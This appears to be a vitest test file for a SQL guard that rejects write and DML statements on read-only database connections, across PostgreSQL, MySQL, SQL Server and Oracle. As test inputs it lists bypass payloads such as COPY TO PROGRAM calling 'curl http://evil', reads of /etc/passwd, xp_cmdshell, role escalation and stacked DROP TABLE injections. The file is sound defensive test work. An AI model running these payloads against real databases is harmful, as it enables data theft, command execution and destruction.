import { describe, expect, it } from 'vitest';
import { AppError } from '../errors/app-error.js';
import { guardScript } from './guard-script.js';
import { parseSqlScript } from './parse-sql-script.js';
import { engineDialect } from './testing/engine-dialect.js';

function refusal(sql: string, engine = 'postgresql'): AppError {
  try {
    guardScript(parseSqlScript(sql, engineDialect(engine)), { allowDml: false });
  } catch (error) {
    if (error instanceof AppError) return error;
    throw error;
  }
  throw new Error(`Not refused: ${sql}`);
}

const allows = (sql: string, engine = 'postgresql', allowDml = false) =>
  expect(() => guardScript(parseSqlScript(sql, engineDialect(engine)), { allowDml })).not.toThrow();

/** The DML bypasses Superset has had (security.md: CVE-2024-55633, CVE-2026-23984, CVE-2023-40610, ...). */
const POSTGRES_BYPASSES: readonly [sql: string, statement: number][] = [
  ['WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d', 1],
  ['WITH d AS (UPDATE t SET a = 1 RETURNING *) SELECT * FROM d', 1],
  ['WITH d AS (INSERT INTO t VALUES (1) RETURNING *) SELECT * FROM d', 1],
  ['SELECT * FROM (WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d) s', 1],
  ['SELECT a INTO new_t FROM t', 1],
  ['SELECT a INTO TEMP new_t FROM t', 1],
  ["SELECT set_config('default_transaction_read_only', 'off', false)", 1],
  ["SELECT pg_catalog.set_config('role', 'admin', false)", 1],
  ["SELECT \"set_config\"('role', 'admin', false)", 1],
  ["SELECT SeT_CoNfIg/* hidden */('role', 'admin', false)", 1],
  ["SELECT lo_import('/etc/passwd')", 1],
  ["SELECT lo_export(16384, '/tmp/x')", 1],
  ["SELECT nextval('orders_id_seq')", 1],
  ["SELECT query_to_xml('DELETE FROM t RETURNING 1', true, true, '')", 1],
  ["SELECT * FROM dblink('dbname=x', 'DELETE FROM t') AS r(a int)", 1],
  ['SELECT pg_terminate_backend(42)', 1],
  ["COPY t TO PROGRAM 'curl http://evil'", 1],
  ["COPY (SELECT * FROM t) TO '/tmp/out.csv'", 1],
  ['CALL do_something()', 1],
  ['DO $$ BEGIN DELETE FROM t; END $$', 1],
  ['BEGIN; SET TRANSACTION READ WRITE', 1],
  ['SELECT 1; COMMIT; DELETE FROM t', 2],
  ['SELECT 1; DROP TABLE t', 2],
  ['SELECT 1; /* harmless */ DROP TABLE t', 2],
  ['SELECT 1 -- just a comment\n; DROP TABLE t', 2],
  ["SELECT 'it''s; fine'; DROP TABLE t", 2],
  ['SELECT $x$ ; $x$; DROP TABLE t', 2],
  ["SELECT 'a\\'; DROP TABLE t; --'", 2],
  ['sElEcT 1; dRoP tAbLe t', 2],
  ['SELECT 1;\u00a0DROP\u00a0TABLE t', 2],
  ['DELETE\u2003FROM t', 1],
  ['SELECT * FROM t FOR UPDATE', 1],
  ['SELECT * FROM t FOR NO KEY UPDATE SKIP LOCKED', 1],
  ['EXPLAIN ANALYZE DELETE FROM t', 1],
  ['EXPLAIN ANALYZE WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d', 1],
  ['PREPARE p AS DELETE FROM t; EXECUTE p', 1],
  ['SET ROLE admin', 1],
  ['RESET ALL', 1],
  ['LOCK TABLE t', 1],
  ['VACUUM t', 1],
  ['REFRESH MATERIALIZED VIEW v', 1],
  ['NOTIFY channel', 1],
  ['CREATE TABLE t2 AS SELECT * FROM t', 1],
  ['ALTER TABLE t ADD COLUMN c int', 1],
  ['TRUNCATE t', 1],
  ['GRANT ALL ON t TO PUBLIC', 1],
  ['MERGE INTO t USING u ON t.id = u.id WHEN MATCHED THEN DELETE', 1],
];

describe('guardScript: PostgreSQL DML bypasses', () => {
  it.each(POSTGRES_BYPASSES)('refuses %j, naming statement %i', (sql, statement) => {
    const error = refusal(sql);
    expect(error.code).toBe('DML_NOT_ALLOWED_ERROR');
    expect(error.status).toBe(400);
    expect(error.extra).toMatchObject({ statement });
    expect(error.message).toMatch(new RegExp(`^Statement ${statement} `));
    expect(error.message).toContain('Only SELECT statements are allowed against this database.');
  });

  it.each(POSTGRES_BYPASSES)('lets %j run where DML is allowed', (sql) => {
    allows(sql, 'postgresql', true);
  });
});

describe('guardScript: other engines', () => {
  it.each([
    ["SELECT 1 --1 INTO OUTFILE '/tmp/x'", 1],
    ['SELECT 1; /*!50000 DROP TABLE t */', 2],
    ['SELECT 1 /*!, (SELECT 1) */', 1],
    ["SELECT '\\\\'; DROP TABLE t; -- '", 2],
    ["SELECT * FROM t INTO OUTFILE '/tmp/x'", 1],
    ["SELECT load_file('/etc/passwd')", 1],
    ['SELECT * FROM t FOR UPDATE', 1],
    ['REPLACE INTO t VALUES (1)', 1],
    ["LOAD DATA INFILE '/tmp/x' INTO TABLE t", 1],
    ['USE mysql', 1],
    ['SELECT 1 # comment\n; DELETE FROM t', 2],
  ])('refuses %j on MySQL, naming statement %i', (sql, statement) => {
    expect(refusal(sql, 'mysql').extra).toMatchObject({ statement });
  });

  it.each([
    ["EXEC xp_cmdshell 'dir'"],
    ['SELECT * INTO #copy FROM t'],
    ["SELECT * FROM OPENROWSET('SQLNCLI', 'Server=x', 'DELETE FROM t')"],
    ['SELECT [a;b] FROM t; DELETE FROM t'],
  ])('refuses %j on SQL Server', (sql) => {
    expect(refusal(sql, 'mssql').code).toBe('DML_NOT_ALLOWED_ERROR');
  });

  it.each([
    ["BEGIN EXECUTE IMMEDIATE 'DROP TABLE t'; END;"],
    ["SELECT q'[x' ; DROP TABLE t; --]' FROM dual"],
    ["SELECT 'a\\'; DROP TABLE t; --' FROM dual"],
  ])('refuses %j on Oracle, which has no grammar here', (sql) => {
    expect(refusal(sql, 'oracle').code).toBe('DML_NOT_ALLOWED_ERROR');
  });

  it('tells the user where an unparsed statement fails', () => {
    expect(refusal('SELECT 1;\nSELECT * FRM t').extra).toMatchObject({
      statement: 2,
      kind: 'unparsed',
      line: 2,
    });
  });
});

describe('guardScript: reads', () => {
  it.each([
    ['SELECT a, count(*) FROM s.t GROUP BY a ORDER BY 2 DESC LIMIT 10', 'postgresql'],
    ['WITH x AS (SELECT * FROM t) SELECT * FROM x JOIN u USING (id)', 'postgresql'],
    ["SELECT 'DROP TABLE t; DELETE FROM t' AS s -- ; DROP TABLE t", 'postgresql'],
    ['SELECT 1; SELECT 2;', 'postgresql'],
    ['EXPLAIN SELECT * FROM t', 'postgresql'],
    ['SHOW search_path', 'postgresql'],
    ["SELECT 'a\\'; DROP TABLE t; --'", 'mysql'],
    ['SHOW TABLES', 'mysql'],
    ['SELECT TOP 10 * FROM [dbo].[t] ORDER BY 1', 'mssql'],
    ['SELECT * FROM `proj.ds.tbl` LIMIT 5', 'bigquery'],
    ['SELECT a FROM hive.default.t', 'trino'],
    ['SELECT * FROM dual', 'oracle'],
  ])('allows %j on %s', (sql, engine) => {
    allows(sql, engine);
  });
});
